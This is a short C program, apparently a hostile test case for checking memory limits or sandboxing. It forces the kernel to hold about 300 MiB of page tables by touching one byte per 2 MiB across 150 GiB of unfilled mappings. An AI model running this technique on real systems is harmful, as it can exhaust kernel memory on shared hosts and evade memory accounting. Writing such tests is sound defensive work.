/* Has the kernel keep 300 MiB of tables for memory that is never filled. */
#include "hostile.h"

/* So much memory has a page of tables of its own; the page that is read is the same everywhere. */
#define STEP (2l << 20)

static int attack(int argc, char **argv)
{
    (void)argc;
    (void)argv;
    for (int part = 0; part < 75; part++) {
        volatile char *some = mmap(NULL, 1024 * STEP, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
        if (some == MAP_FAILED)
            return -1;
        for (long i = 0; i < 1024; i++)
            (void)some[i * STEP];
    }
    hold();
    return 0;
}
